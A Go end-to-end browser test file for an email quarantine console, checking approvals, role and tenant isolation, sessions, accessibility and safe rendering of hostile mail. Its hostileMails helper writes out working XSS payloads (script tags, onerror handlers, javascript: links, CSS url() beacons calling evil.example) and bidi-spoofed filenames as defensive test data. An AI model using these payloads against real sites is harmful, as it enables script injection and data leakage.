package e2e_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"mailroom/deploy/dev/browser"
	"mailroom/shared/testenv"
)

// The people of the tests, beside ada, who may do everything.
const (
	bobToken   = "e2e-bob-token-canary"   // operator
	veraToken  = "e2e-vera-token-canary"  // viewer
	oscarToken = "e2e-oscar-token-canary" // operator of another tenant
	eveToken   = "e2e-eve-token-canary"   // operator whose session ends
)

// consoleWorld is a world in which infected mail needs two people.
func consoleWorld(t *testing.T) *world {
	t.Helper()
	testenv.Chromium(t)
	return newWorld(t, func(s *settings) {
		s.People = `
  - {name: bob, role: operator, token: {ref: "env:BOB_TOKEN"}}
  - {name: vera, role: viewer, token: {ref: "env:VERA_TOKEN"}}
  - {name: eve, role: operator, token: {ref: "env:EVE_TOKEN"}}
  - {name: oscar, roles: {other: operator}, token: {ref: "env:OSCAR_TOKEN"}}`
		s.More = "approvals: {infected: 2}\n"
		s.Tenants = ", {name: other, domains: [other.example]}"
	})
}

// signIn opens a browser and signs in by the form.
func (w *world) signIn(token string) *browser.Page {
	w.t.Helper()
	p := browser.Open(w.t, testenv.Chromium(w.t))
	p.Go(w.OperatorURL() + "/login")
	p.Fill("input[name=token]", token)
	p.Enter()
	p.Visible("nav.areas")
	return p
}

func (w *world) page(id string) string { return w.OperatorURL() + "/emails/" + url.PathEscape(id) }

// heldFor sends an email and waits until it is held.
func (w *world) heldFor(f fields, reason string) string {
	w.t.Helper()
	id := f["event_id"].(string)
	w.accept(f.json())
	require.Equal(w.t, reason, w.until(id, "quarantined").Reason)
	return id
}

// decideOn takes a decision on the page of an email, with the question in between.
func decideOn(p *browser.Page, action, note string) {
	p.Fill("#note", note)
	p.Click(fmt.Sprintf("#decision button[value=%s]", action))
	p.Visible("#confirm[open]")
	p.Click("#confirm-yes")
}

// becomes waits until the page of an email shows a state, without being loaded again.
func becomes(p *browser.Page, state string) {
	p.Until(fmt.Sprintf(`document.querySelector("#status .tag")?.textContent === %q`, state))
}

// TestConsole does by browser what operators do.
func TestConsole(t *testing.T) {
	t.Parallel()
	w := consoleWorld(t)
	for name, story := range map[string]func(*world){
		"find, read, approve, watch": findReadApprove,
		"edit and replay":            editAndReplay,
		"discard":                    discardOne,
		"a second person":            secondPerson,
		"who comes second is told":   comesSecond,
		"many at once":               manyAtOnce,
		"one row selected":           selectedRow,
		"wrong role":                 wrongRole,
		"session that has ended":     sessionEnded,
		"keyboard alone":             keyboardAlone,
		"keys and fields":            keysAndFields,
		"without scripts, by forms":  byForms,
		"destination paused":         pausedDestination,
		"opened while it refreshes":  refreshedWhileOpened,
		"written while it refreshes": refreshedWhileWritten,
		"routes tried out":           routesTriedOut,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			story(w.in(t))
		})
	}
}

func findReadApprove(w *world) {
	id := newID()
	subject := "Find me " + id
	w.heldFor(shapeA(id, "careful").with(fields{"subject": subject}), "manual_hold")
	p := w.signIn(operatorToken)
	p.Go(w.OperatorURL() + "/emails")
	p.Fill("[data-search]", id)
	p.Enter()
	p.Until(`document.querySelectorAll("a.row").length === 1`)
	p.Click("a.row")
	p.Visible("#status")
	p.Says(subject)
	becomes(p, "held")
	p.Until(`document.querySelector("pre.text") !== null`) // the page arrives in parts
	require.Contains(w.t, p.Text("pre.text"), canaryText)
	require.Equal(w.t, 1, p.Count(`iframe[sandbox=""]`))
	p.Says("timestamp-hmac") // verified by which key
	before := browser.Eval[float64](p, "performance.timeOrigin")
	decideOn(p, "approve", "read it by browser")
	becomes(p, "delivered")
	p.Says("read it by browser")
	require.Equal(w.t, map[string]int{"/tickets": 1}, w.effects(id))
	after := browser.Eval[float64](p, "performance.timeOrigin")
	// The form loads the page once more; the state after that comes by itself.
	require.NotZero(w.t, before+after)
	e := w.email(id)
	require.Len(w.t, e.Decisions, 1)
	require.Equal(w.t, "ada", e.Decisions[0].Actor)
	require.Equal(w.t, "console", e.Decisions[0].Via)
	require.Empty(w.t, p.Troubles())
	require.Empty(w.t, p.Blocked())
}

func editAndReplay(w *world) {
	id := w.heldFor(shapeA(newID(), "nobody"), "unroutable")
	p := w.signIn(operatorToken)
	p.Go(w.page(id))
	p.Click(`#decision a[href$="/edit"], #decision a[href*="/edit?"]`)
	p.Fill("#recipients", "support@yourapp.example")
	p.Click("form button:not([name])[class='']")
	p.Visible("#preview table.diff")
	require.Contains(w.t, p.Text("#preview table"), "nobody@yourapp.example")
	require.Contains(w.t, p.Text("#preview table"), "support@yourapp.example")
	p.Fill("#note", "they meant support")
	p.Click("#preview button[name=confirmed]")
	becomes(p, "delivered")
	require.Equal(w.t, map[string]int{"/tickets": 1}, w.effects(id))
	e := w.email(id)
	require.Len(w.t, e.Decisions, 1)
	require.Equal(w.t, "edit", e.Decisions[0].Action)
}

func discardOne(w *world) {
	id := w.heldFor(shapeA(newID(), "careful"), "manual_hold")
	p := w.signIn(bobToken)
	p.Go(w.page(id))
	// Cancel first: nothing happens.
	p.Fill("#note", "no use")
	p.Click("#decision button[value=discard]")
	p.Visible("#confirm[open]")
	p.Click("#confirm button[value=no]")
	p.Until(`!document.querySelector("#confirm[open]")`)
	require.Equal(w.t, "quarantined", w.email(id).State)
	decideOn(p, "discard", "no use")
	becomes(p, "discarded")
	require.Empty(w.t, w.effects(id))
	require.Equal(w.t, "bob", w.email(id).Decisions[0].Actor)
}

func secondPerson(w *world) {
	id := newID()
	w.heldFor(shapeA(id, "support").with(fields{"attachments": []any{attached("a.com", "text/plain", eicar())}}), "infected")
	ada := w.signIn(operatorToken)
	ada.Go(w.page(id))
	decideOn(ada, "approve", "harmless, says the lab")
	ada.Says("1 of 2")
	require.Equal(w.t, "quarantined", w.email(id).State)
	ada.Go(w.page(id))
	decideOn(ada, "approve", "really")
	ada.Visible("#problem")
	require.Equal(w.t, "quarantined", w.email(id).State, "one person counts once")
	bob := w.signIn(bobToken)
	bob.Go(w.page(id))
	bob.Says("1 of 2")
	decideOn(bob, "approve", "I agree")
	becomes(bob, "delivered")
	becomes(ada, "delivered") // and every other viewer sees it
	require.Equal(w.t, map[string]int{"/tickets": 1}, w.effects(id))
}

func comesSecond(w *world) {
	id := w.heldFor(shapeA(newID(), "careful"), "manual_hold")
	p := w.signIn(bobToken)
	p.Go(w.page(id))
	p.Visible("#decision button[value=approve]")
	// By the form alone, as a page that nothing has refreshed would send it.
	csrf := browser.Eval[string](p, `document.querySelector("#decision [name=csrf]").value`)
	seen := browser.Eval[string](p, `document.querySelector("#decision [name=seen]").value`)
	w.decide(id, "discard")
	w.until(id, "discarded")
	text := browser.Eval[string](p, fmt.Sprintf(`(() => { const x = new XMLHttpRequest(); x.open("POST", %q, false);
x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded"); x.send(%q); return x.responseText })()`,
		"/emails/"+url.PathEscape(id)+"/decisions",
		url.Values{"csrf": {csrf}, "seen": {seen}, "action": {"approve"}, "note": {"late"}, "confirmed": {"yes"}}.Encode()))
	require.Contains(w.t, text, "ada")
	require.Contains(w.t, text, "discarded")
	require.Len(w.t, w.email(id).Decisions, 1)
}

func manyAtOnce(w *world) {
	mark := strings.ToLower(newID())
	var ids []string
	for range 5 {
		ids = append(ids, w.heldFor(shapeA(newID(), "careful").with(fields{"subject": mark}), "manual_hold"))
	}
	p := w.signIn(operatorToken)
	p.Go(w.OperatorURL() + "/replays/new?state=quarantined&reason=manual_hold&q=" + url.QueryEscape(mark))
	p.Click("input[name=action][value=approve]")
	p.Fill("#note", "all of them are fine")
	p.Click("button[value=plan]")
	p.Says("5 emails")
	p.Fill("#count", "4")
	p.Click("button[value=start]")
	p.Says("Nothing was started")
	p.Fill("#count", "5")
	p.Click("button[value=start]")
	p.Says("5 of 5 done")
	for _, id := range ids {
		e := w.until(id, "delivered")
		require.Len(w.t, e.Decisions, 1)
		require.Equal(w.t, "ada", e.Decisions[0].Actor)
	}
}

func wrongRole(w *world) {
	id := w.heldFor(shapeA(newID(), "careful"), "manual_hold")
	p := w.signIn(veraToken)
	p.Go(w.page(id))
	p.Visible("#status")
	require.Zero(w.t, p.Count("#decision button"))
	require.Zero(w.t, p.Count(`a[href*="/raw"]`))
	csrf := browser.Eval[string](p, `document.querySelector("form[action='/logout'] [name=csrf]").value`)
	status := browser.Eval[int](p, fmt.Sprintf(`(() => { const x = new XMLHttpRequest(); x.open("POST", %q, false);
x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded"); x.send(%q); return x.status })()`,
		"/emails/"+url.PathEscape(id)+"/decisions",
		url.Values{"csrf": {csrf}, "action": {"approve"}, "note": {"n"}, "confirmed": {"yes"}}.Encode()))
	require.Equal(w.t, http.StatusForbidden, status)
	require.Equal(w.t, "quarantined", w.email(id).State)
	// Of another tenant's mail not even that it is there.
	o := w.signIn(oscarToken)
	o.Go(w.page(id))
	require.NotContains(w.t, o.Text("body"), canarySubject)
	require.Zero(w.t, o.Count("#status"))
	o.Go(w.OperatorURL() + "/inbox")
	require.NotContains(w.t, o.Text("body"), canarySubject)
	// Nor of its sources and their secrets.
	p.Go(w.OperatorURL() + "/sources")
	p.Says("env:WEBHOOK_SECRET")
	o.Go(w.OperatorURL() + "/sources")
	o.Says("No source belongs to a tenant of yours")
	require.NotContains(w.t, o.Text("body"), "WEBHOOK_SECRET")
	o.Go(w.OperatorURL() + "/sources/mailparse/failures")
	o.Says("Not found")
	require.Zero(w.t, o.Count(`a[href="/tokens"]`))
}

func sessionEnded(w *world) {
	id := w.heldFor(shapeA(newID(), "careful"), "manual_hold")
	p := w.signIn(eveToken)
	p.Go(w.page(id))
	p.Fill("#note", "too late")
	w.sql("DELETE FROM sessions WHERE name = 'eve'")
	// It is remembered for some seconds.
	p.Until(`(() => { const x = new XMLHttpRequest(); x.open("GET", "/inbox", false); x.send(); return x.responseURL.includes("/login") || x.status === 401 })()`)
	p.Click("#decision button[value=approve]")
	p.Visible("#confirm[open]")
	p.Click("#confirm-yes")
	p.Visible("input[name=token]")
	require.Equal(w.t, "quarantined", w.email(id).State)
}

func keyboardAlone(w *world) {
	id := newID()
	w.heldFor(shapeA(id, "careful").with(fields{"subject": "By keys " + id}), "manual_hold")
	p := w.signIn(operatorToken)
	p.Go(w.OperatorURL() + "/emails?q=" + id)
	p.Visible("a.row")
	p.Press("j")
	p.Until(`document.activeElement.classList.contains("row")`)
	p.Enter()
	p.Visible("#decision")
	p.Press("a")
	p.Until(`document.activeElement.id === "note"`)
	p.Press("by keys alone")
	p.Press("\x1b")
	p.Until(`document.activeElement.id !== "note"`)
	p.Press("a")
	p.Visible("#confirm[open]")
	p.Enter()
	becomes(p, "delivered")
}

func byForms(w *world) {
	id := w.heldFor(shapeA(newID(), "careful"), "manual_hold")
	p := w.signIn(operatorToken)
	p.NoScripts()
	p.Go(w.page(id))
	p.Fill("#note", "without scripts")
	p.Click("#decision button[value=approve]")
	p.Click("form .buttons button[value=approve]") // the question is a page of its own
	p.Visible("#status")
	require.Equal(w.t, "ada", w.until(id, "delivered").Decisions[0].Actor)
}

func pausedDestination(w *world) {
	p := w.signIn(operatorToken)
	p.Go(w.OperatorURL() + "/destinations")
	p.Says("accounting")
	steer := func(verb, note string) {
		form := `form[action="/destinations/accounting/` + verb + `"]`
		p.Click("details:has(" + form + ") summary")
		p.Fill(form+" [name=note]", note)
		p.Click(form + " button")
	}
	steer("pause", "closing of the year")
	p.Says("closing of the year")
	id := w.keptBack("invoices")
	require.Equal(w.t, "downstream_unavailable", w.email(id).Reason)
	require.Empty(w.t, w.effects(id))
	steer("resume", "done with it")
	w.until(id, "delivered")
	require.Equal(w.t, map[string]int{"/invoices": 1}, w.effects(id))
}

func routesTriedOut(w *world) {
	p := w.signIn(veraToken)
	p.Go(w.OperatorURL() + "/routes")
	p.Fill("[name=recipients]", "support@yourapp.example")
	p.Click("main form button")
	p.Says("ticketing")
}

// sql changes the ledger of the world from behind.
func (w *world) sql(statement string) {
	w.t.Helper()
	_, err := w.db.Exec(w.t.Context(), statement)
	require.NoError(w.t, err)
}

// TestConsoleKeepsHostileMailHarmless looks at mail that was made to do harm: it
// neither runs nor loads anything, and the page stays whole.
func TestConsoleKeepsHostileMailHarmless(t *testing.T) {
	t.Parallel()
	w := consoleWorld(t)
	p := w.signIn(operatorToken)
	const evil = "evil.example"
	for name, f := range hostileMails(evil) {
		id := newID()
		f["event_id"] = id
		w.accept(f.json())
		testenv.Eventually(t, func() bool { s := w.email(id).State; return s == "delivered" || s == "quarantined" }, patience, tick, name)
		for _, path := range []string{"", "/html", "/raw"} {
			p.Go(w.page(id) + path)
			p.Until(`document.readyState === "complete"`)
			if path == "" {
				p.Visible("#status")
				p.Says("Timeline")
				require.Less(t, browser.Eval[float64](p, "document.documentElement.scrollWidth - document.documentElement.clientWidth"), 2.0, "%s: the page is wider than the view", name)
			}
			require.False(t, browser.Eval[bool](p, "Boolean(window.pwned)"), "%s %s", name, path)
		}
		// The list shows it as well, and nothing of it gets out of its row.
		p.Go(w.OperatorURL() + "/emails?q=" + id)
		p.Visible("a.row")
		require.False(t, browser.Eval[bool](p, "Boolean(window.pwned)"), name)
	}
	for _, r := range p.Requests() {
		require.True(t, strings.HasPrefix(r, w.OperatorURL()) || strings.HasPrefix(r, "data:") || strings.HasPrefix(r, "about:"), r)
		require.NotContains(t, r, evil)
	}
	require.Empty(t, p.Troubles())
}

func hostileMails(evil string) map[string]fields {
	html := func(body string) fields { return shapeA("", "support").with(fields{"html": body}) }
	var many []any
	for i := range 1000 {
		many = append(many, attached(fmt.Sprintf("file-%04d.txt", i), "text/plain", fmt.Appendf(nil, "content %d", i)))
	}
	run := `window.pwned=1;top.pwned=1;fetch('http://` + evil + `/x')`
	return map[string]fields{
		"script":        html(`<script>` + run + `</script><img src=x onerror="` + run + `"><svg onload="` + run + `"><a href="javascript:` + run + `">x</a><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><form action="http://` + evil + `"><input autofocus onfocus="` + run + `"></form><meta http-equiv=refresh content="0;url=http://` + evil + `"><base href="http://` + evil + `/">`),
		"remote images": html(`<img src="http://` + evil + `/a.png"><img srcset="http://` + evil + `/b.png 2x"><video poster="http://` + evil + `/c.png"><picture><source srcset="//` + evil + `/d.png"></picture><table background="http://` + evil + `/e.png"><link rel=stylesheet href="http://` + evil + `/f.css"><link rel=prefetch href="http://` + evil + `/g"><object data="http://` + evil + `/h"></object><embed src="http://` + evil + `/i">`),
		"css":           html(`<style>@import url(http://` + evil + `/a.css);body{background:url(http://` + evil + `/b)}input[value^=a]{background:url(http://` + evil + `/c)}@font-face{font-family:x;src:url(http://` + evil + `/d)}*{position:fixed;inset:0}</style><div style="background:url(http://` + evil + `/e);position:fixed;inset:0;z-index:9999">over everything</div><p style="content:url(http://` + evil + `/f)">x</p>`),
		"bidi names": shapeA("", "support").with(fields{
			"subject": "\u202egnp.exe\u202c <script>window.pwned=1</script>", "sender": []any{fields{"address": "a@elsewhere.example", "name": "\u202e\u2066Ada\"><script>window.pwned=1</script>"}},
			"attachments": []any{attached("invoice\u202efdp.exe", "text/plain", []byte("x")), attached(`"><img src=x onerror=window.pwned=1>.txt`, "text/plain", []byte("y"))},
		}),
		"a thousand attachments": shapeA("", "support").with(fields{"attachments": many}),
		"twenty thousand tags":   html(strings.Repeat("<div><b>", 10_000) + "deep" + strings.Repeat("</b></div>", 10_000)),
		"long words":             shapeA("", "support").with(fields{"subject": strings.Repeat("W", 900), "text": strings.Repeat("x", 100_000), "html": "<p>" + strings.Repeat("y", 100_000)}),
	}
}

// TestConsoleIsAccessible has every page checked, light, dark and on a phone.
func TestConsoleIsAccessible(t *testing.T) {
	t.Parallel()
	w := consoleWorld(t)
	axe := testenv.Axe(t)
	held := newID()
	w.heldFor(shapeA(held, "support").with(fields{"attachments": []any{attached("a.com", "text/plain", eicar()), attached("b.txt", "text/plain", []byte("b"))}}), "infected")
	done := newID()
	w.accept(shapeA(done, "both").json())
	w.until(done, "delivered")
	p := browser.Open(t, testenv.Chromium(t))
	p.Go(w.OperatorURL() + "/login")
	require.Empty(t, p.Serious(axe), "login")
	p = w.signIn(operatorToken)
	looks := []struct {
		scheme string
		width  int64
	}{{"light", 1280}, {"dark", 1280}, {"light", 800}, {"light", 390}}
	for _, path := range []string{
		"/", "/inbox", "/inbox?reason=unroutable", "/emails", "/emails?q=nothing-like-it", "/emails/" + held, "/emails/" + held + "/edit",
		"/emails/" + held + "/raw", "/emails/" + done, "/destinations", "/routes", "/replays", "/replays/new", "/audit", "/emails/no-such-email",
		"/sources", "/sources/mailparse/failures", "/tokens",
		"/help/runbook", "/help/receiving",
	} {
		p.Go(w.OperatorURL() + path)
		p.Until(`document.readyState === "complete"`)
		for _, look := range looks {
			p.Scheme(look.scheme)
			p.Size(look.width, 900)
			require.Empty(t, p.Serious(axe), "%s %s %d", path, look.scheme, look.width)
			require.Less(t, browser.Eval[float64](p, "document.documentElement.scrollWidth - document.documentElement.clientWidth"), 2.0,
				"%s is wider than %d", path, look.width)
			require.Empty(t, brokenWords(p), "%s at %d breaks words", path, look.width)
			require.Empty(t, hiddenTabs(p), "%s at %d hides tabs", path, look.width)
		}
	}
	require.Empty(t, p.Blocked())
}
